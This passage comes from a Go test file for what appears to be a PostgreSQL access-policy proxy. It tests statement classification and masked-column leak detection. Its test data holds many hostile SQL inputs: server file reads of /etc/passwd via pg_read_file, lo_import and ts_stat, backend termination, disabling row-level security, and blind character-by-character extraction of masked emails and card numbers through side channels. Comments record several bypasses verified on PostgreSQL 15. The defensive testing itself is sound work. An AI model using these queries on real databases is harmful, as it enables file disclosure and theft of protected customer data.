		"SELECT * FROM ROWS FROM (pg_read_file('/x'))",
		"SELECT * FROM t WHERE pg_read_file('/x') IS NOT NULL",
		"SELECT (SELECT pg_ls_dir('.'))",
		"SELECT * FROM t, LATERAL (SELECT pg_read_binary_file('/x')) s",
		"WITH x AS (SELECT pg_ls_dir('.')) SELECT * FROM x",
		"SELECT pg_read_file(VARIADIC ARRAY['/x'])",
		"SELECT count(*) FILTER (WHERE pg_reload_conf()) FROM t",
		"INSERT INTO t VALUES (pg_read_file('/etc/passwd'))",
		"UPDATE t SET a = lo_import('/etc/passwd')",
		"DELETE FROM t WHERE a = dblink_exec('x', 'y')",
		"COPY t FROM STDIN WHERE pg_read_file('x') IS NULL",
		"COPY (SELECT pg_read_file('x')) TO STDOUT",
		"EXPLAIN ANALYZE SELECT pg_read_file('x')",
		"MERGE INTO t USING (SELECT pg_read_file('x') AS a) s ON true WHEN NOT MATCHED THEN INSERT VALUES (s.a)",
		"PREPARE p AS SELECT pg_terminate_backend($1)",
		"DECLARE c CURSOR FOR SELECT pg_ls_dir('.')",
		"CALL pg_read_file('x')",
		`SELECT "pg_read_file"('/x')`,
		"SELECT pg_logical_slot_get_binary_changes('s', NULL, NULL)",
		"SELECT pg_replication_slot_advance('s', '0/0')",
		"SELECT pg_logical_emit_message(true, 'p', 'x')",
		"SELECT * FROM pg_ls_replslotdir('s')",
		"SELECT pg_backup_stop()",
		"SELECT pg_read_file_old('/etc/passwd', 0, 100)",
		// SQL in a string, which corral cannot read.
		"SELECT * FROM crosstab('SELECT purge()') AS t(r text, c text)",
		"SELECT * FROM connectby('t', 'id', 'parent', '1', 0) AS t(id text, parent text, level int)",
		"SELECT * FROM xpath_table('1', '<a/>', '(SELECT 1) z; DELETE FROM orders; SELECT 1', '/a', 'true') AS t(k int, v text)",
	} {
		s := classifyOne(t, sql)
		if !has(s.Ops, "function") {
			t.Errorf("%s: Ops = %q, want function", sql, s.Ops)
		}
	}
	// Ordinary functions are not flagged.
	for _, sql := range []string{"SELECT lower('x')", "SELECT now(), count(*) FROM t", "SELECT current_setting('x')", "SELECT pg_backend_pid()"} {
		if s := classifyOne(t, sql); has(s.Ops, "function") {
			t.Errorf("%s: Ops = %q, want no function", sql, s.Ops)
		}
	}
}

func TestClassifySetConfig(t *testing.T) {
	cases := []struct {
		sql string
		op  string
	}{
		{"SELECT set_config('role', 'admin', false)", "set role"},
		{"SELECT set_config('ROLE', 'admin', false)", "set role"},
		{"SELECT set_config('session_authorization', 'bob', false)", "set role"},
		{"SELECT pg_catalog.set_config('role', 'x', false)", "set role"},
		{"SELECT set_config(E'role', 'x', false)", "set role"},
		{"SELECT * FROM set_config('role', 'x', false)", "set role"},
		{"SELECT set_config('search_path', 'x', false)", "set"},
		{"SELECT set_config('statement_timeout', '0', true)", "set"},
		{"SELECT set_config('my.var', 'x', false)", "set"},
		// Not a literal: could name the role.
		{"SELECT set_config(name, 'x', false) FROM t", "set role"},
		{"SELECT set_config($1, 'x', false)", "set role"},
		{"SELECT set_config('r' || 'ole', 'x', false)", "set role"},
		{"SELECT set_config('role'::text, 'x', false)", "set role"},
		{"SELECT set_config('search_path'::text, 'x'::text, false)", "set"}, // as a view's definition prints
		{"SELECT set_config('search_path'::regclass::text, 'x', false)", "set role"},
		{"SELECT set_config(lower('ROLE'), 'x', false)", "set role"},
		{"SELECT set_config(('role'), 'x', false)", "set role"},
		// Triggers and foreign keys off, as DISABLE TRIGGER.
		{"SELECT set_config('session_replication_role', 'replica', false)", "drop"},
		{"SELECT set_config(name, 'x', false) FROM t", "drop"},
	}
	for _, c := range cases {
		s := classifyOne(t, c.sql)
		if !has(s.Ops, c.op) {
			t.Errorf("%s: Ops = %q, want %q", c.sql, s.Ops, c.op)
		}
		if c.op == "set" && has(s.Ops, "set role") {
			t.Errorf("%s: Ops = %q, want no set role", c.sql, s.Ops)
		}
		if !s.literalSensitive {
			t.Errorf("%s: not literal-sensitive", c.sql)
		}
	}
}

func TestClassifyMultiStatement(t *testing.T) {
	cases := []struct {
		sql   string
		texts []string
		ops   [][]string
	}{
		{"SELECT 1; SELECT 2", []string{"SELECT 1", "SELECT 2"}, [][]string{{"select"}, {"select"}}},
		{"  select 1 ;  DELETE from t  ;", []string{"select 1", "DELETE from t"}, [][]string{{"select"}, {"delete"}}},
		{"BEGIN;\n  UPDATE t SET a = 1 WHERE id = 2;\nCOMMIT;\n", []string{"BEGIN", "UPDATE t SET a = 1 WHERE id = 2", "COMMIT"},
			[][]string{{"transaction"}, {"update"}, {"transaction"}}},
		{"SET ROLE admin; DROP TABLE t", []string{"SET ROLE admin", "DROP TABLE t"}, [][]string{{"set role"}, {"drop"}}},
		{"SELECT ';' AS semi; SELECT $$a;b$$", []string{"SELECT ';' AS semi", "SELECT $$a;b$$"}, [][]string{{"select"}, {"select"}}},
		{";;SELECT 1;;", []string{"SELECT 1"}, [][]string{{"select"}}},
	}
	for _, c := range cases {
		stmts, err := Classify(c.sql)
		if err != nil {
			t.Fatalf("%q: %v", c.sql, err)
		}
		if len(stmts) != len(c.texts) {
			t.Fatalf("%q: %d statements, want %d", c.sql, len(stmts), len(c.texts))
		}
		for i, s := range stmts {
			if s.Text != c.texts[i] {
				t.Errorf("%q [%d]: Text = %q, want %q", c.sql, i, s.Text, c.texts[i])
			}
			if !slices.Equal(s.Ops, c.ops[i]) {
				t.Errorf("%q [%d]: Ops = %q, want %q", c.sql, i, s.Ops, c.ops[i])
			}
			if fp, _ := pg.Fingerprint(c.texts[i]); s.Fingerprint != fp {
				t.Errorf("%q [%d]: Fingerprint is not the statement's own", c.sql, i)
			}
		}
	}
	// A denied statement anywhere in the string is seen.
	stmts, err := Classify("SELECT 1; SELECT 2; SELECT 3; TRUNCATE t")
	if err != nil || len(stmts) != 4 || !has(stmts[3].Ops, "truncate") {
		t.Errorf("fourth statement lost: %+v, %v", stmts, err)
	}
}

func TestClassifyErrors(t *testing.T) {
	for _, sql := range []string{
		"SELEC 1",
		"SELECT 1; SELEC 2",
		"SELECT (",
		"DROP TABLE",
		"SELECT 'unterminated",
		"SELECT $$x",
		"SELECT 1 WHERE 1 = (SELECT 1 FROM (DELETE FROM t RETURNING 1) d)",
	} {
		if stmts, err := Classify(sql); err == nil {
			t.Errorf("Classify(%q) = %+v, want an error", sql, stmts)
		}
	}
	// Nothing to run: no statement, no error (the server answers
	// EmptyQueryResponse).
	for _, sql := range []string{"", "   ", ";", " ; ; ", "-- just a comment", "/* nothing */"} {
		stmts, err := Classify(sql)
		if err != nil || len(stmts) != 0 {
			t.Errorf("Classify(%q) = %+v, %v; want nothing", sql, stmts, err)
		}
	}
	// Statement nodes the classifier does not know are unsupported, never
	// guessed at.
	var s Statement
	if err := s.classify(nil); !errors.Is(err, errUnsupported) {
		t.Errorf("classify(nil) = %v, want errUnsupported", err)
	}
	if err := s.classify(&pg.Node{}); !errors.Is(err, errUnsupported) {
		t.Errorf("classify(empty node) = %v, want errUnsupported", err)
	}
	for _, n := range []*pg.Node{
		{Node: &pg.Node_SetOperationStmt{SetOperationStmt: &pg.SetOperationStmt{}}},
		{Node: &pg.Node_ReturnStmt{ReturnStmt: &pg.ReturnStmt{}}},
		{Node: &pg.Node_PlassignStmt{PlassignStmt: &pg.PLAssignStmt{}}},
		{Node: &pg.Node_AConst{AConst: &pg.A_Const{}}},
		{Node: &pg.Node_ExplainStmt{ExplainStmt: &pg.ExplainStmt{}}}, // EXPLAIN of nothing
		{Node: &pg.Node_PrepareStmt{PrepareStmt: &pg.PrepareStmt{Query: &pg.Node{Node: &pg.Node_ReturnStmt{ReturnStmt: &pg.ReturnStmt{}}}}}},
		{Node: &pg.Node_DeclareCursorStmt{DeclareCursorStmt: &pg.DeclareCursorStmt{}}},
	} {
		if _, err := stmtOps(n); !errors.Is(err, errUnsupported) {
			t.Errorf("stmtOps(%T) = %v, want errUnsupported", n.GetNode(), err)
		}
		s := Statement{aliases: map[string][]string{}}
		if err := s.classify(n); !errors.Is(err, errUnsupported) {
			t.Errorf("classify(%T) = %v, want errUnsupported", n.GetNode(), err)
		}
	}
}

// Every statement node the parser can produce maps to operations: none
// falls through to "unsupported" by omission.
func TestStmtOpsCoversEveryStatementNode(t *testing.T) {
	notTopLevel := map[string]bool{"RawStmt": true, "SetOperationStmt": true, "ReturnStmt": true, "PLAssignStmt": true}
	od := (&pg.Node{}).ProtoReflect().Descriptor().Oneofs().Get(0)
	n := 0
	for i := 0; i < od.Fields().Len(); i++ {
		fd := od.Fields().Get(i)
		if fd.Message() == nil {
			continue
		}
		name := string(fd.Message().Name())
		if !strings.HasSuffix(name, "Stmt") || notTopLevel[name] {
			continue
		}
		node := &pg.Node{}
		r := node.ProtoReflect()
		r.Set(fd, r.NewField(fd))
		ops, err := opsOfNode(node)
		if errors.Is(err, errNotStatement) {
			t.Errorf("%s: not classified", name)
			continue
		}
		// Wrappers (EXPLAIN, PREPARE, DECLARE) of nothing are unsupported.
		if err == nil {
			checkOpsWellFormedUnsorted(t, name, ops)
		}
		n++
	}
	if n < 100 {
		t.Errorf("only %d statement nodes seen", n)
	}
}

func checkOpsWellFormedUnsorted(t *testing.T, name string, ops []string) {
	t.Helper()
	if len(ops) == 0 {
		t.Errorf("%s: no operations", name)
	}
	for _, op := range ops {
		if !slices.Contains(policy.Vocabulary[policy.KindSQL], op) {
			t.Errorf("%s: op %q is not in the sql vocabulary", name, op)
		}
	}
}

// Known classification gaps, each reported with its repro. Every case
// states the correct behaviour.
func TestClassifyKnownBugs(t *testing.T) {
	cases := []struct {
		bug  string
		sql  string
		want string // an op the statement must carry
	}{
		// PostgreSQL accepts attribute notation for one-argument functions:
		// (x).f is f(x). The parse tree holds an A_Indirection, no FuncCall.
		// Verified on PostgreSQL 15: SELECT ('/etc/hostname'::text).pg_read_file
		// returns the file.
		{"attribute-notation call", "SELECT ('/etc/hostname'::text).pg_read_file", "function"},
		{"attribute-notation call", "SELECT (x).pg_ls_dir FROM (SELECT '.'::text AS x) s", "function"},
		{"attribute-notation call", "SELECT (123).pg_terminate_backend", "function"},
		{"attribute-notation call", "SELECT ('/etc/passwd'::text).lo_import", "function"},
		// These return table data as XML just like table_to_xml.
		{"xml data functions", "SELECT table_to_xml_and_xmlschema('customers', true, false, '')", "function"},
		{"xml data functions", "SELECT schema_to_xml_and_xmlschema('public', true, false, '')", "function"},
		{"xml data functions", "SELECT database_to_xml_and_xmlschema(true, false, '')", "function"},
		// ts_stat and ts_rewrite run the SQL text they are given (read-only):
		// verified on PostgreSQL 15, ts_stat('SELECT to_tsvector(pg_read_file(...))')
		// returns the file's words.
		{"SQL in a string", "SELECT * FROM ts_stat($$SELECT to_tsvector(pg_read_file('/etc/passwd'))$$)", "function"},
		{"SQL in a string", "SELECT ts_rewrite('a'::tsquery, 'SELECT a, b FROM secrets')", "function"},
		// Logical decoding over SQL reads every change of every table (the
		// handler refuses replication connections for the same reason).
		{"logical decoding", "SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)", "function"},
		{"logical decoding", "SELECT pg_create_logical_replication_slot('s', 'test_decoding')", "function"},
		// Advisory locks taken or given back, and large objects opened,
		// moved through or read, are not plain reads.
		{"advisory locks", "SELECT pg_try_advisory_xact_lock(1)", "lock"},
		{"advisory locks", "SELECT pg_advisory_unlock(1)", "lock"},
		{"large objects", "SELECT lo_lseek(0, 0, 0)", "function"},
		{"large objects", "SELECT lo_get(16400)", "function"},
		// Changing an owner is a privilege change whatever the object.
		{"owner via ALTER TABLE", "ALTER TABLE t OWNER TO bob", "grant"},
		{"owner via ALTER TABLE", "ALTER VIEW v OWNER TO bob", "grant"},
		{"owner via ALTER TABLE", "ALTER SEQUENCE s OWNER TO bob", "grant"},
		// Row-level security on and off is policy, as CREATE/ALTER POLICY are.
		{"row level security", "ALTER TABLE t DISABLE ROW LEVEL SECURITY", "grant"},
		{"row level security", "ALTER TABLE t NO FORCE ROW LEVEL SECURITY", "grant"},
		{"row level security", "DROP POLICY p ON t", "grant"},
		// RETURNING and UPDATE ... FROM / DELETE ... USING read rows.
		{"reads without select", "DELETE FROM t USING secrets s WHERE true RETURNING s.*", "select"},
		{"reads without select", "UPDATE t SET a = a FROM secrets s RETURNING s.*", "select"},
	}
	for _, c := range cases {
		t.Run(c.sql, func(t *testing.T) {
			s := classifyOne(t, c.sql)
			if !has(s.Ops, c.want) {
				knownBug(t, c.bug, "%s: Ops = %q, want %q among them", c.sql, s.Ops, c.want)
			}
		})
	}

	t.Run("pg_notify", func(t *testing.T) {
		// pg_notify() is NOTIFY: a rule that denies notify must see it.
		s := classifyOne(t, "SELECT pg_notify('ch', 'x')")
		if !has(s.Ops, "notify") {
			knownBug(t, "pg_notify is notify", "Ops = %q, want notify among them", s.Ops)
		}
	})
	t.Run("INSERT VALUES needs select", func(t *testing.T) {
		// A literal VALUES list reads nothing, but the nested SelectStmt
		// adds "select": an insert-only rule cannot insert.
		s := classifyOne(t, "INSERT INTO t VALUES (1)")
		if has(s.Ops, "select") {
			knownBug(t, "VALUES counted as select", "Ops = %q, want [insert]", s.Ops)
		}
	})
	t.Run("nested EXECUTE", func(t *testing.T) {
		// EXPLAIN ANALYZE EXECUTE p and CREATE TABLE x AS EXECUTE p run p,
		// but Executes stays empty, so the session neither checks that p
		// was prepared through it nor adds p's operations.
		var wrong []string
		for _, sql := range []string{"EXPLAIN ANALYZE EXECUTE p", "CREATE TABLE x AS EXECUTE p"} {
			if s := classifyOne(t, sql); s.Executes != "p" {
				wrong = append(wrong, fmt.Sprintf("%s: Executes = %q, want p", sql, s.Executes))
			}
		}
		if len(wrong) > 0 {
			knownBug(t, "nested EXECUTE", "%s", strings.Join(wrong, "; "))
		}
	})
}

// --- masks.leak ---

var leakMasks = []policy.Mask{
	{Columns: []string{"customers.email", "public.customers.card"}, Method: "partial"},
	{Columns: []string{"billing.invoices.iban"}, Method: "redact"},
}

func TestMaskLeak(t *testing.T) {
	m := compileMasks(leakMasks)
	cases := []struct {
		sql  string
		leak bool
	}{
		// Direct columns are masked by RowDescription: no leak.
		{"SELECT email FROM customers", false},
		{"SELECT id, email, card FROM customers WHERE id = 1", false},
		{"SELECT c.email FROM customers c", false},
		{"SELECT c.email AS e FROM customers AS c", false},
		{"SELECT customers.email FROM customers", false},
		{"SELECT public.customers.card FROM public.customers", false},
		{"SELECT * FROM customers", false},
		{"SELECT c.* FROM customers c", false},
		{"TABLE customers", false},
		{"SELECT email FROM customers FOR UPDATE", false},
		{"DELETE FROM customers WHERE id = 1 RETURNING email", false},
		// Masked columns only where they filter: no leak.
		{"SELECT id FROM customers WHERE email = 'a@b.c'", false},
		{"SELECT id FROM customers ORDER BY email", false},
		{"SELECT count(*) FROM customers GROUP BY email", false},
		{"SELECT count(*) FROM customers GROUP BY email HAVING max(card) > ''", false},
		{"SELECT o.id FROM orders o JOIN customers c ON c.email = o.email", false},
		{"SELECT DISTINCT ON (email) id FROM customers ORDER BY email", false},
		{"SELECT id FROM customers LIMIT (SELECT 1)", false},
		{"UPDATE customers SET id = 2 WHERE email = 'x'", false},
		{"DELETE FROM customers WHERE card LIKE '4%'", false},
		// Tables without masks.
		{"SELECT lower(email) FROM orders", false},
		{"SELECT row_to_json(o) FROM orders o", false},
		{"COPY orders TO STDOUT", false},
		{"SELECT (SELECT email FROM orders LIMIT 1)", false},
		{"SELECT lower(iban) FROM invoices", true}, // bare table of a schema-qualified mask
		{"SELECT lower(iban) FROM billing.invoices", true},
		{"SELECT iban FROM billing.invoices", false},
		// COPY into the table is fine.
		{"COPY customers FROM STDIN", false},
		{"INSERT INTO customers (email) VALUES ('x')", false},

		// Inside expressions the result column has no table: refused.
		{"SELECT lower(email) FROM customers", true},
		{"SELECT upper(c.email) FROM customers c", true},
		{"SELECT lower(customers.email) FROM customers", true},
		{"SELECT public.customers.email || '' FROM public.customers", true},
		{"SELECT email || '' FROM customers", true},
		{"SELECT email::text FROM customers", true},
		{"SELECT CASE WHEN id > 0 THEN email END FROM customers", true},
		{"SELECT coalesce(card, 'none') FROM customers", true},
		{"SELECT array_agg(email) FROM customers", true},
		{"SELECT lag(email) OVER () FROM customers", true},
		{"SELECT lower(card) FROM public.customers", true},
		{"SELECT lower(C.EMAIL) FROM CUSTOMERS C", true},
		// CTEs, subqueries, set operations.
		{"WITH x AS (SELECT email FROM customers) SELECT * FROM x", true},
		{"WITH x AS (SELECT email FROM customers) SELECT email FROM x", true},
		{"SELECT * FROM (SELECT email FROM customers) s", true},
		{"SELECT s.e FROM (SELECT c.email AS e FROM customers c) s", true},
		{"SELECT (SELECT email FROM customers LIMIT 1)", true},
		{"SELECT (SELECT email) FROM customers", true},
		{"SELECT id, (SELECT c2.card FROM customers c2 LIMIT 1) FROM orders", true},
		{"SELECT email FROM customers UNION SELECT 'x'", true},
		{"SELECT 'x' UNION ALL SELECT email FROM customers", true},
		{"VALUES ((SELECT email FROM customers LIMIT 1))", true},
		// Whole rows and stars inside anything.
		{"SELECT c FROM customers c", true},
		{"SELECT customers FROM customers", true},
		{"SELECT row_to_json(c) FROM customers c", true},
		{"SELECT to_json(c.*) FROM customers c", true},
		{"SELECT json_agg(c) FROM customers c", true},
		{"SELECT (c).email FROM customers c", true},
		{"SELECT (customers.*).email FROM customers", true},
		{"SELECT x.* FROM (SELECT * FROM customers) x", true},
		{"SELECT * FROM (SELECT * FROM customers) x", true},
		{"SELECT count(*) FROM (SELECT * FROM customers) x", true},
		{"UPDATE customers SET id = 1 RETURNING customers", true},
		{"DELETE FROM customers RETURNING lower(email)", true},
		// COPY out of a masked table bypasses RowDescription.
		{"COPY customers TO STDOUT", true},
		{"COPY public.customers (id) TO STDOUT", true},
		{"COPY (SELECT email FROM customers) TO STDOUT", true},
		{"COPY (SELECT id FROM customers) TO STDOUT", true},
		// Copying masked values elsewhere.
		{"UPDATE orders SET note = c.email FROM customers c WHERE c.id = orders.cid", true},
		{"UPDATE orders SET note = (SELECT email FROM customers LIMIT 1)", true},
		{"INSERT INTO orders (note) SELECT email FROM customers", true},
		{"INSERT INTO orders (note) VALUES ((SELECT card FROM customers LIMIT 1))", true},
		{"CREATE TABLE x AS SELECT email FROM customers", true},
		{"MERGE INTO orders o USING customers c ON o.cid = c.id WHEN NOT MATCHED THEN INSERT (note) VALUES (c.email)", true},
		{"DECLARE cur CURSOR FOR SELECT lower(email) FROM customers", true},
		// A join's alias names every relation inside it.
		{"SELECT j.email || '' FROM (customers CROSS JOIN (SELECT 1) z) AS j", true},
		{"INSERT INTO orders (note) SELECT j.email FROM (customers CROSS JOIN (SELECT 1) z) AS j", true},
		{"UPDATE orders SET note = j.card FROM (customers c JOIN orders o ON o.cid = c.id) AS j WHERE j.id = orders.id", true},
		{"SELECT j::text FROM (customers CROSS JOIN orders) AS j", true},
		{"SELECT j.* FROM (customers CROSS JOIN orders) AS j", false}, // attributed column by column
		{"SELECT j.b FROM (customers CROSS JOIN orders) AS j(a, b)", true},
		{"SELECT j.id || '' FROM (orders CROSS JOIN (SELECT 1) z) AS j", false},
		{"SELECT k.email || '' FROM ((orders CROSS JOIN customers) AS j CROSS JOIN (SELECT 1) y) AS k", true},
		{"INSERT INTO orders (note) SELECT j.email FROM customers a JOIN customers b USING (email) AS j", true},
		// Side channels and other sessions' statements.
		{"SELECT 1 FROM customers WHERE setval('s', length(email)) > 0", true},
		{"SELECT 1 FROM customers WHERE lo_from_bytea(424242, convert_to(email, 'UTF8')) > 0", true},
		{"SELECT 1 FROM customers WHERE lo_put(1, 0, convert_to(email, 'UTF8')) IS NULL", true},
		{"SELECT query FROM pg_stat_activity", true},
		{"SELECT pg_stat_get_backend_activity(s) FROM generate_series(1, 9) s", true},
		{"SELECT * FROM crosstab('SELECT id, 1, email FROM customers') AS t(a int, b text)", true},
		// Rules and triggers on a masked table: their actions and
		// arguments (column names as strings) copy its rows elsewhere.
		{"CREATE RULE zr AS ON UPDATE TO customers DO ALSO INSERT INTO zlog VALUES (old.email, old.card)", true},
		{"CREATE RULE zr AS ON INSERT TO customers DO ALSO NOTIFY ch", true},
		{"CREATE OR REPLACE RULE zr AS ON UPDATE TO public.customers DO INSTEAD NOTHING", true},
		{"CREATE RULE zr AS ON INSERT TO orders DO ALSO INSERT INTO zlog SELECT email FROM customers", true},
		{"CREATE TRIGGER zz BEFORE UPDATE ON customers FOR EACH ROW EXECUTE FUNCTION tsvector_update_trigger(tsv, 'pg_catalog.simple', email)", true},
		{"CREATE TRIGGER zz AFTER INSERT ON orders FOR EACH ROW WHEN (new.note = 'x') EXECUTE FUNCTION suppress_redundant_updates_trigger()", false},
		{"CREATE RULE zr AS ON UPDATE TO orders DO ALSO NOTIFY ch", false},
	}
	for _, c := range cases {
		t.Run(c.sql, func(t *testing.T) {
			s := classifyOne(t, c.sql)
			got := m.leak(&s, lineage{})
			if (got != "") != c.leak {
				t.Errorf("leak = %q, want leak %v", got, c.leak)
			}
		})
	}

	// No masks, no leaks.
	s := classifyOne(t, "SELECT lower(email) FROM customers")
	if got := (*masks)(nil).leak(&s, lineage{}); got != "" {
		t.Errorf("nil masks: leak = %q", got)
	}
	if got := compileMasks(nil).leak(&s, lineage{}); got != "" {
		t.Errorf("no masks: leak = %q", got)
	}
	// Detect-only masks name no column: no statement is refused.
	if got := compileMasks([]policy.Mask{{Detect: []string{"email"}, Method: "redact"}}).leak(&s, lineage{}); got != "" {
		t.Errorf("detect-only masks: leak = %q", got)
	}
}

// Views over masked columns and parents of masked tables carry masked
// values under other names: what the catalog says of them (lineage) makes
// them count as masked where values leave for a table or a side channel.
func TestMaskLeakThroughLineage(t *testing.T) {
	m := compileMasks(leakMasks)
	l := lineage{views: map[string]bool{"contacts": true}, kin: map[string][]string{"people": {"customers"}, "archive": {"customers"}}}
	cases := []struct {
		sql  string
		leak bool
	}{
		{"SELECT contact FROM contacts", false},        // masked by RowDescription
		{"SELECT lower(contact) FROM contacts", false}, // withheld: risky
		{"INSERT INTO orders (note) SELECT contact FROM contacts", true},
		{"INSERT INTO orders (note) SELECT v.contact FROM contacts v", true},
		{"UPDATE orders SET note = v.contact FROM contacts v WHERE v.id = orders.id", true},
		{"INSERT INTO orders (note) SELECT o.note FROM orders o JOIN contacts v ON v.id = o.id", false},
		{"SELECT set_config('x', max(contact), false) FROM contacts", true},
		{"SELECT pg_notify('c', max(contact)) FROM contacts", true},
		{"COPY (SELECT contact FROM contacts) TO STDOUT", true},
		{"CREATE TABLE x AS SELECT contact FROM contacts", true},
		{"SELECT v FROM contacts v", true},
		{"SELECT email FROM people", false},
		{"SELECT lower(email) FROM people", true},
		{"SELECT lower(p.email) FROM people p", true},
		{"INSERT INTO orders (note) SELECT email FROM people", true},
		{"SELECT p FROM people p", true},
		{"COPY people TO STDOUT", true},
		{"SELECT lower(note) FROM orders", false},
		{"SELECT lower(email) FROM archive", true}, // a child has its parent's columns
		{"INSERT INTO orders (note) SELECT email FROM archive", true},
		{"SELECT set_config('x', max(email), false) FROM archive", true},
		// Writes nested in a data-modifying CTE or EXPLAIN ANALYZE.
		{"WITH w AS (INSERT INTO orders (note) SELECT contact FROM contacts RETURNING note) SELECT * FROM w", true},
		{"EXPLAIN ANALYZE INSERT INTO orders (note) SELECT contact FROM contacts", true},
	}
	for _, c := range cases {
		s := classifyOne(t, c.sql)
		if got := m.leak(&s, l); (got != "") != c.leak {
			t.Errorf("%s: leak = %q, want leak %v", c.sql, got, c.leak)
		}
	}
}

// Whatever a mask's filters setting, a filter term may not match part of
// a masked column against another row source's values: the rows it keeps,
// returned or written, would spell the value out in one statement.
func TestMaskCorrelatedFilters(t *testing.T) {
	m := compileMasks([]policy.Mask{
		{Columns: []string{"customers.email"}, Method: "partial"},
		{Columns: []string{"customers.card"}, Method: "redact"},
	})
	l := lineage{views: map[string]bool{"contacts": true}}
	cases := []struct {
		sql     string
		refused string // what the refusal names, "" when allowed
	}{
		{"SELECT i, g FROM customers, generate_series(1, 40) i, generate_series(32, 126) g WHERE customers.id = 1 AND ascii(substr(customers.email, i, 1)) = g", "customers.email"},
		{"INSERT INTO orders (id, customer_id) SELECT 1000 + i, g FROM customers, generate_series(1, 40) i, generate_series(32, 126) g WHERE customers.id = 1 AND ascii(substr(customers.email, i, 1)) = g", "customers.email"},
		{"UPDATE orders SET amount = g FROM customers, generate_series(32, 126) g WHERE customers.id = 2 AND orders.id > 2000 AND ascii(substr(customers.card, orders.id - 2000, 1)) = g", "customers.card"},
		{"DELETE FROM grid USING customers c WHERE c.id = 1 AND ascii(substr(c.email, grid.i, 1)) <> grid.g", "customers.email"},
		{"SELECT o.id, o.amount FROM orders o, customers c WHERE c.id = 1 AND ascii(substr(c.email, o.id, 1)) = o.amount", "customers.email"},
		{"SELECT o.id FROM orders o JOIN customers c ON substr(c.email, o.id, 1) = o.note", "customers.email"},
		{"SELECT i, g FROM generate_series(1, 40) i, generate_series(32, 126) g WHERE EXISTS (SELECT 1 FROM customers c WHERE c.id = 1 AND ascii(substr(c.email, i, 1)) = g)", "customers.email"},
		{"SELECT g FROM generate_series(32, 126) g, customers c WHERE c.id = 1 AND (c.id = 2 OR c.email LIKE chr(g) || '%')", "customers.email"},
		{"SELECT DISTINCT ON (i) i, g FROM customers c, generate_series(1, 40) i, generate_series(32, 126) g ORDER BY i, ascii(substr(c.email, i, 1)) = g DESC", "customers.email"},
		{"SELECT i, g FROM customers c, generate_series(1, 40) i, generate_series(32, 126) g GROUP BY i, g HAVING bool_or(ascii(substr(c.email, i, 1)) = g)", "customers.email"},
		{"SELECT g FROM customers c, generate_series(32, 126) g WHERE ascii(c::text) = g", "customers (whole row)"},
		{"SELECT g FROM contacts v, generate_series(32, 126) g WHERE ascii(v.contact) = g", "contacts.contact"},
		{"SELECT o.id FROM orders o, customers c WHERE ascii(substr(email, o.id, 1)) = 97", "customers.email"},
		// Rows picked by position, or a qualifier naming another relation
		// in a subquery.
		{"INSERT INTO orders (id, customer_id) VALUES (1101, (SELECT n FROM generate_series(0, 255) n OFFSET (SELECT ascii(substr(email, 1, 1)) FROM customers WHERE id = 1) LIMIT 1))", "customers.email"},
		{"INSERT INTO orders (id) SELECT n FROM generate_series(1, 300) n LIMIT (SELECT ascii(substr(card, 1, 1)) FROM customers WHERE id = 2)", "customers.card"},
		{"INSERT INTO orders (id, customer_id) SELECT x.i, x.g FROM public.customers, LATERAL (SELECT customers.i, customers.g FROM grid AS customers WHERE ascii(substr(public.customers.email, customers.i, 1)) = customers.g) x WHERE public.customers.id = 1", "customers.email"},
		{"SELECT customers.g FROM grid AS customers WHERE customers.g = (SELECT ascii(substr(customers.email, 1, 1)) FROM customers WHERE id = 1)", "customers.email"},
		{"INSERT INTO orders (id, customer_id) SELECT 5000 + j.i, j.g FROM (customers CROSS JOIN grid) AS j WHERE j.id = 1 AND ascii(substr(j.email, j.i, 1)) = j.g", "customers.email"},
		{"SELECT g.i, g.g FROM grid g, customers c WHERE c.id = 1 ORDER BY ascii(substr(c.email, ((row_number() OVER (ORDER BY g.i, g.g)) - 1)::int / 95 + 1, 1)) = ((row_number() OVER (ORDER BY g.i, g.g)) - 1)::int % 95 + 32 DESC LIMIT 20", "customers.email"},
		{"SELECT g.i FROM grid g, customers c WHERE c.id = 1 GROUP BY g.i HAVING count(*) = ascii(substr(max(c.email), 1, 1))", "customers.email"},
		{"INSERT INTO orders (id) SELECT 10000 + generate_series(1, 3800) FROM customers WHERE id = 1 ORDER BY ascii(substr(email, (generate_series(1, 3800) - 1) / 95 + 1, 1)) = (generate_series(1, 3800) - 1) % 95 + 32 DESC LIMIT 15", "customers.email"},
		{"INSERT INTO orders (id) SELECT 20000 + s FROM (SELECT s FROM generate_series(1, 1900) s, generate_series(1, s) j) t, customers c WHERE c.id = 2 GROUP BY s HAVING ascii(substr(max(c.card), (count(1) - 1)::int / 95 + 1, 1)) = (count(1) - 1)::int % 95 + 32", "customers.card"},
		{"SELECT id FROM customers ORDER BY ascii(substr(email, 1, 1)) = floor(random() * 95 + 32)", "customers.email"},
		{"INSERT INTO orders (id) SELECT (jsonb_path_query_tz('[1,2,3]', '$[*]'))::int FROM customers WHERE id = 1 ORDER BY ascii(substr(email, (jsonb_path_query_tz('[1,2,3]', '$[*]'))::int, 1)) = 97 DESC LIMIT 1", "customers.email"},
		{"INSERT INTO orders (id) SELECT 1 FROM customers WHERE id = 2 ORDER BY ascii(substr(card, (information_schema._pg_expandarray(array_fill(0, ARRAY[30]))).n, 1)) = 53 DESC LIMIT 1", "customers.card"},
		{"INSERT INTO orders (id, amount) SELECT 7000, count(*) OVER w - 1 FROM generate_series(1, 300) i WINDOW w AS (ORDER BY i ROWS BETWEEN CURRENT ROW AND (SELECT ascii(substr(card, 1, 1)) FROM customers WHERE id = 2) FOLLOWING) LIMIT 1", "customers.card"},
		// A filter by the masked row alone, or comparing the column whole.
		{"SELECT o.id FROM orders o JOIN customers c ON c.id = o.customer_id WHERE lower(c.email) = lower($1)", ""},
		{"SELECT o.id FROM orders o JOIN customers c ON c.id = o.customer_id WHERE c.email LIKE 'a%'", ""},
		{"SELECT id FROM customers WHERE ascii(substr(email, id, 1)) = 97", ""},
		{"SELECT id FROM customers WHERE email LIKE name || '%'", ""},
		{"SELECT c.id FROM customers c, orders o WHERE c.email = o.note", ""},
		{"SELECT c.id FROM customers c JOIN accounts a ON lower(a.email) = lower(c.email)", ""},
		{"SELECT c.id FROM customers c WHERE c.email IN (SELECT note FROM orders)", ""},
		{"SELECT c.id FROM customers c, orders o WHERE c.card IS NULL AND o.id = 1", ""},
		{"UPDATE customers SET note = 'x' WHERE ascii(substr(email, 1, 1)) = 97", ""},
		{"INSERT INTO orders (id) SELECT id FROM customers WHERE email LIKE 'a%'", ""},
